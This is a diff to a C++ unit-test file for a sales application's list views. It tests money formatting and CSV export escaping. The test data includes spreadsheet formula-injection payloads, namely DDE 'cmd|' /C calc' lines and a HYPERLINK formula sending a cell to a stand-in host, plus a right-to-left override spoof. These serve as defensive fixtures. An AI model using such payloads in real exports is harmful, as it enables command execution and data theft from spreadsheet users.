@@ -265,6 +265,42 @@ TEST_F(ServiciosSql, aFilledListShowsFiguresAndDatesAsReadInMexico)
               "F-5|Quinta|||||2026||\n");
 }
 
+// An amount column shows as money only what the database holds as a number, or a text that is
+// exactly one as a database writes it; any other text there (SQLite keeps "$9,999,999.00" in a
+// NUMERIC column as the text it is) is shown as stored, after a warning sign, and so is no
+// amount for the total nor for a spreadsheet.
+TEST_F(ServiciosSql, anAmountColumnShowsAsMoneyOnlyNumbers)
+{
+    const QString casos[][2] = {
+        // the value as SQL, as the list shows it
+        {"1234.5", "$1,234.50"},
+        {"CAST(-7 AS INTEGER)", "-$7.00"},
+        {"'1234.5'", "$1,234.50"},
+        {"'-20'", "-$20.00"},
+        {"'$9,999,999.00'", "\u26A0 $9,999,999.00"},
+        {"'1,234.50'", "\u26A0 1,234.50"},
+        {"' 12'", "\u26A0  12"},
+        {"'1e3'", "\u26A0 1e3"},
+        {"'+5'", "\u26A0 +5"},
+        {"'2026-12-31'", "\u26A0 2026-12-31"},
+        {"'\u202E00.000,01$'", "\u26A0 \u202E00.000,01$"},
+        {"''", ""},
+        {"NULL", ""},
+    };
+    Kit::ListView lista;
+    for (const auto &[valor, mostrado] : casos) {
+        ASSERT_TRUE(funciones.LlenaLista("SELECT 'F' AS \"Folio\", " + valor + " AS \"Monto\"", lista, -1));
+        EXPECT_EQ(lista.listModel().text(0, 1), mostrado) << valor.toStdString();
+    }
+    if (Pruebas::motor() != Ado::Engine::SQLite)
+        return;
+    base.ejecuta("INSERT INTO Oportunidad (Op_Folio, Op_Descripcion, Op_Cve_Vendedor, Op_Monto) VALUES"
+                 " ('F-1', 'Texto', 'V1', '$9,999,999.00'), ('F-2', 'Cifra', 'V1', '1234.5')");
+    ASSERT_TRUE(
+        funciones.LlenaLista("SELECT Op_Folio, Op_Monto AS \"Monto\" FROM Oportunidad ORDER BY Op_Folio", lista, -1));
+    EXPECT_EQ(textoCsv(lista), "Op_Folio;Monto\r\nF-1;\u26A0 $9,999,999.00\r\nF-2;$1,234.50\r\n");
+}
+
 // Whatever changed, a refill shows what a fresh fill shows: a few rows changed in place (also
 // when the change moves them in the user's sort, or changes the decimals all the figures of
 // their column share), many rows changed, rows gone and rows new. A statement that fails is
@@ -498,28 +534,49 @@ TEST_F(CierreOportunidadPostgreSQL, twoUsersCloseTheSameOpportunityAndOnlyTheFir
     EXPECT_EQ(base.cuenta("Bitacora"), 0);
 }
 
-// Cells a spreadsheet would run as formulas go out as text; numbers stay numbers. A cell
-// longer than the list shows goes out whole, and is copied whole. Fitted, each column takes the
-// width of its header and of the texts of the first rows, those beyond unmeasured; in a window
-// too narrow for them all, the text columns give up width, never below a few characters, while
-// the folio, the figures and the dates keep theirs.
+// Cells a spreadsheet would run as formulas go out as text, also when the formula follows a
+// comma or a semicolon inside the cell (a spreadsheet may split there); numbers stay numbers.
+// A cell holding the separator, a quote or a line break is quoted. A cell longer than the list
+// shows goes out whole, and is copied whole. Fitted, each column takes the width of its header
+// and of the texts of the first rows, those beyond unmeasured; in a window too narrow for them
+// all, the text columns give up width, never below a few characters, while the folio, the
+// figures and the dates keep theirs.
 TEST(AccionesLista, theCsvCarriesNoFormulasAndFittingShrinksOnlyTextColumnsToTheListsWidth)
 {
     const QString larga = QString(Kit::ListModel::shownLength, u'x') + "fin";
     Kit::ListView lista;
-    const auto csv = [&lista](const QString &celda) {
-        lista.replaceContents({"=Folio"}, {{QString(), {celda}}});
-        const QString texto = textoCsv(lista); // the header, a formula itself, goes out as text too
-        return texto.startsWith("'=Folio\r\n") && texto.endsWith("\r\n") ? texto.mid(9).chopped(2) : texto;
+    const QString casos[][2] = {
+        // the cell, as it goes out
+        {"@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
+        {"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
+        {"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
+        {"\t=1+1", "'\t=1+1"},
+        {"-$1,2+cmd|' /C calc'!A0", "'-$1,2+cmd|' /C calc'!A0"},
+        {"-", "'-"},
+        {"=HYPERLINK(\"http://x.example/?d=\"&B3;\"Ver\")",
+         "\"'=HYPERLINK(\"\"http://x.example/?d=\"\"&B3;\"\"Ver\"\")\""},
+        {"\r=1+1", "\"'\r=1+1\""},
+        {"x,=cmd|' /C calc'!A0", "\"'x,=cmd|' /C calc'!A0\""},
+        {"Ana; @SUM(A1)", "\"'Ana; @SUM(A1)\""},
+        {"1,2,-3+cmd", "\"'1,2,-3+cmd\""},
+        {"a,,\tb", "\"'a,,\tb\""},
+        {"línea 1\nlínea 2", "\"línea 1\nlínea 2\""},
+        {"fin\r", "\"fin\r\""},
+        {"dice \"sí\"", "\"dice \"\"sí\"\"\""},
+        {"a;b", "\"a;b\""},
+        {"-1234.50", "-1234.50"},
+        {"-$1,234.50", "-$1,234.50"},
+        {"+7", "+7"},
+        {"a=b", "a=b"},
+        {"Pérez, Ana", "Pérez, Ana"},
+        {"1,-5, -$2.50", "1,-5, -$2.50"},
+        {larga, larga},
     };
-    for (const QString celda : {"@SUM(1+1)*cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1",
-                                "-$1,2+cmd|' /C calc'!A0", "-"})
-        EXPECT_EQ(csv(celda), '\'' + celda) << celda.toStdString();
-    EXPECT_EQ(csv("=HYPERLINK(\"http://x.example/?d=\"&B3;\"Ver\")"),
-              "\"'=HYPERLINK(\"\"http://x.example/?d=\"\"&B3;\"\"Ver\"\")\"");
-    EXPECT_EQ(csv("\r=1+1"), "\"'\r=1+1\"");
-    for (const QString &celda : {QString("-1234.50"), QString("-$1,234.50"), QString("+7"), QString("a=b"), larga})
-        EXPECT_EQ(csv(celda), celda) << celda.left(40).toStdString();
+    for (const auto &[celda, exportada] : casos) {
+        lista.replaceContents({"=Folio"}, {{QString(), {celda}}});
+        // the header, a formula itself, goes out as text too
+        EXPECT_EQ(textoCsv(lista), "'=Folio\r\n" + exportada + "\r\n") << celda.left(40).toStdString();
+    }
     EXPECT_EQ(textoTabulado(lista), "=Folio\n" + larga + "\n"); // the copy takes the long cell whole too
 
     lista.resize(560, 200);
